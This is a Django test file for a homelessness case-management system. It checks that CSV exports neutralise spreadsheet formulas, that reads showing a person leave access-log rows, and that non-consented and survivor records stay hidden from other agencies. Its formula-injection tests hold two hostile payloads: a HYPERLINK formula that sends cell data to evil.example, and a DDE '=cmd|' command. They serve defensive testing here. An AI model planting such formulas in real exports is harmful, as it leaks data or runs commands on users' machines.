"""Issue 9 ("Trust boundary"), the list's parts: CSV cells a spreadsheet would run, one access-log
row for every read that shows a person, what stands behind a score only for those who may see
the person, and personal data at every door only where ces.access allows."""

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse
from rest_framework.test import APIClient

from bnl.services import bnl_case_management_set, bnl_place_deidentified_on_coc_list
from ces import roles
from ces.csv_export import csv_cell, csv_row
from ces.models import AccessLog
from intake.services import intake_submit
from tests.factories import AgencyFactory, BnlEntryFactory, ProgramFactory, UserFactory, call_agent, worked_example_2_answers

pytestmark = pytest.mark.django_db

VAT_ROW = "Household has children under 18"  # a VAT indicator of worked example 2


def page_for(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def api_for(user) -> APIClient:
    client = APIClient()
    client.force_authenticate(user)
    return client


def csv_rows(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


# --- CSV formula injection ----------------------------------------------------------


@pytest.mark.parametrize("typed", [
    '=HYPERLINK("http://evil.example/?"&A1,"Click for details")',
    "+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
])
def test_csv_export_neutralises_cells_a_spreadsheet_would_run(client, typed):
    holder = AgencyFactory()
    worker = UserFactory(agency=holder, roles=[roles.CASE_WORKER])
    BnlEntryFactory(score=9, client__holding_agency=holder, client__first_name=typed, client__last_name=typed)
    client.force_login(worker)
    [row] = csv_rows(client.get(reverse("bnl-export")))
    assert row["first_name"] == "'" + typed and row["last_name"] == "'" + typed
    assert row["score"] == "9"  # numbers the code writes stay numbers


def test_csv_export_neutralises_program_names_too(client):
    ProgramFactory(type="psh", name="=cmd|' /C calc'!A0")
    BnlEntryFactory()
    client.force_login(UserFactory(roles=[roles.COC_STAFF]))
    [row] = csv_rows(client.get(reverse("bnl-export")))
    assert row["eligible_programs"] == "'=cmd|' /C calc'!A0"


def test_csv_cell_prefixes_text_only():
    assert csv_row([12, -3, 0.5, True, None, "Ana", "", "a=b"]) == [12, -3, 0.5, True, "", "Ana", "", "a=b"]
    assert [csv_cell(text) for text in ("=1", "+1", "-1", "@x", "\tx", "\rx")] == ["'=1", "'+1", "'-1", "'@x", "'\tx", "'\rx"]


def test_csv_export_log_names_the_filter_and_no_search_terms(client):
    coc = UserFactory(roles=[roles.COC_STAFF])
    BnlEntryFactory(client__first_name="Jane", client__last_name="Doe", chronic=True)
    client.force_login(coc)
    response = client.get(reverse("bnl-export"), {"status": "active", "chronic": "true", "q": "Jane Doe"})
    assert len(csv_rows(response)) == 1
    log = AccessLog.objects.get(user=coc)
    assert log.action == AccessLog.Action.EXPORT
    assert log.detail == "BNL CSV status=active chronic=true"


def test_csv_export_with_a_bad_filter_is_400_and_logs_nothing(client):
    coc = UserFactory(roles=[roles.COC_STAFF])
    client.force_login(coc)
    response = client.get(reverse("bnl-export"), {"program": "²"})
    assert response.status_code == 400 and "Send the number" in response.content.decode()
    assert not AccessLog.objects.filter(user=coc).exists()


# --- one access-log row per read that shows a person ---------------------------------


def _holder_with_entries(n: int = 3):
    holder = AgencyFactory()
    worker = UserFactory(agency=holder, roles=[roles.CASE_WORKER])
    entries = [BnlEntryFactory(client__holding_agency=holder, client__hmis_consent="no") for _ in range(n)]
    BnlEntryFactory(client__hmis_consent="no")  # another agency's, not consented: a label only
    return worker, entries


def test_bnl_api_list_leaves_one_access_log_row_naming_whom_it_showed():
    worker, entries = _holder_with_entries()
    assert api_for(worker).get("/api/v1/bnl/").status_code == 200
    log = AccessLog.objects.get(user=worker)
    assert log.action == AccessLog.Action.VIEW_LIST
    assert all(str(entry.client_id) in log.detail for entry in entries)


def test_bnl_screen_list_leaves_one_access_log_row(client):
    worker, entries = _holder_with_entries()
    client.force_login(worker)
    assert client.get(reverse("bnl-list")).status_code == 200
    assert list(AccessLog.objects.filter(user=worker).values_list("action", flat=True)) == [AccessLog.Action.VIEW_LIST]


def test_a_list_of_labels_only_leaves_no_row(client):
    viewer = UserFactory(agency=AgencyFactory(hmis_participating=False), roles=[roles.PROGRAM_STAFF])
    BnlEntryFactory(client__hmis_consent="no")
    client.force_login(viewer)
    client.get(reverse("bnl-list"))
    api_for(viewer).get("/api/v1/bnl/")
    assert not AccessLog.objects.filter(user=viewer).exists()


def test_bnl_api_detail_leaves_one_api_read_row_for_the_person():
    worker, entries = _holder_with_entries(1)
    assert api_for(worker).get(f"/api/v1/bnl/{entries[0].pk}/").json()["client"]["id"] == entries[0].client_id
    log = AccessLog.objects.get(user=worker)
    assert (log.action, log.client_id, log.object_id) == (AccessLog.Action.API_READ, entries[0].client_id, str(entries[0].pk))


def test_bnl_screen_detail_leaves_one_view_client_row(client):
    worker, entries = _holder_with_entries(1)
    client.force_login(worker)
    client.get(reverse("bnl-detail", args=[entries[0].pk]))
    log = AccessLog.objects.get(user=worker)
    assert (log.action, log.client_id) == (AccessLog.Action.VIEW_CLIENT, entries[0].client_id)


def test_a_detail_showing_only_a_label_leaves_no_row(client):
    entry = BnlEntryFactory(client__hmis_consent="no")
    outsider = UserFactory(roles=[roles.PROGRAM_STAFF])
    client.force_login(outsider)
    assert client.get(reverse("bnl-detail", args=[entry.pk])).status_code == 200
    assert api_for(outsider).get(f"/api/v1/bnl/{entry.pk}/").status_code == 200
    assert not AccessLog.objects.filter(user=outsider).exists()


# --- what stands behind the score -------------------------------------------------------


@pytest.fixture
def unshared_assessed_entry():
    """Worked example 2, not consented to HMIS sharing, with a case-management point."""
    agent = call_agent()
    result = intake_submit(actor=agent, answers=worked_example_2_answers(hmis_consent="no"))
    worker = UserFactory(agency=agent.agency, roles=[roles.CASE_WORKER])
    bnl_case_management_set(entry=result.bnl_entry, item=2, points=1, actor=worker,
                            justification="Cannot manage insulin alone")
    return result.bnl_entry, worker


def test_detail_screen_shows_the_breakdown_only_to_those_who_may_see_the_person(client, unshared_assessed_entry):
    entry, worker = unshared_assessed_entry
    client.force_login(UserFactory(roles=[roles.PROGRAM_STAFF]))  # another agency, HMIS-participating
    html = client.get(reverse("bnl-detail", args=[entry.pk])).content.decode()
    assert VAT_ROW not in html and "Cannot manage insulin alone" not in html
    assert "Vulnerability score" in html and "score 14" in html  # the total and the flags stay
    client.force_login(worker)
    html = client.get(reverse("bnl-detail", args=[entry.pk])).content.decode()
    assert VAT_ROW in html and "Cannot manage insulin alone" in html


def test_api_detail_answers_the_breakdown_only_to_those_who_may_see_the_person(unshared_assessed_entry):
    entry, worker = unshared_assessed_entry
    outsider = api_for(UserFactory(roles=[roles.PROGRAM_STAFF])).get(f"/api/v1/bnl/{entry.pk}/").json()
    assert "breakdown" not in outsider and "client" not in outsider and outsider["score"] == 14
    mine = api_for(worker).get(f"/api/v1/bnl/{entry.pk}/").json()
    rows = {row["code"]: row for row in mine["breakdown"]}
    assert rows["children"]["points"] == 2 and rows["children"]["wording"] == VAT_ROW


def test_the_case_management_justification_stays_out_of_the_entrys_history(unshared_assessed_entry):
    entry, worker = unshared_assessed_entry
    assert not entry.history.filter(history_change_reason__contains="insulin").exists()
    assert entry.case_management_points.get(item=2).justification == "Cannot manage insulin alone"


# --- personal data at every door only where ces.access allows ---------------------------


def _doors(user, entries) -> list[bytes]:
    page, api = page_for(user), api_for(user)
    answers = [page.get(reverse("bnl-list")).content, api.get("/api/v1/bnl/").content,
               b"".join(page.get(reverse("bnl-export")).streaming_content)]
    for entry in entries:
        answers += [page.get(reverse("bnl-detail", args=[entry.pk])).content, api.get(f"/api/v1/bnl/{entry.pk}/").content]
    return answers


def test_no_door_shows_a_non_consented_or_vsp_person_to_another_agencys_program_staff():
    unshared = BnlEntryFactory(client__hmis_consent="no", client__first_name="Secretina", client__last_name="Quill")
    vsp = AgencyFactory(vsp=True, initials="SUP")
    advocate = UserFactory(agency=vsp, roles=[roles.VSP_ADVOCATE])
    survivor = BnlEntryFactory(client__holding_agency=vsp, client__hmis_consent="yes", list_owner=vsp,
                               client__first_name="Refugia", client__last_name="Norte")
    copy = bnl_place_deidentified_on_coc_list(source=survivor, vsp_client_number="77", actor=advocate)
    staff = UserFactory(roles=[roles.PROGRAM_STAFF])
    for answer in _doors(staff, [unshared, copy]):
        for secret in ("Secretina", "Quill", "Refugia", "Norte", unshared.client.dob.isoformat()):
            assert secret.encode() not in answer
    assert api_for(staff).get(f"/api/v1/bnl/{survivor.pk}/").status_code == 404  # the VSP's own list
    assert page_for(staff).get(reverse("bnl-detail", args=[survivor.pk])).status_code == 404
    # The holding agency and the VSP see their own people.
    holder = UserFactory(agency=unshared.client.holding_agency, roles=[roles.CASE_WORKER])
    assert b"Secretina" in page_for(holder).get(reverse("bnl-detail", args=[unshared.pk])).content
    assert b"Refugia" in page_for(advocate).get(reverse("bnl-detail", args=[survivor.pk])).content
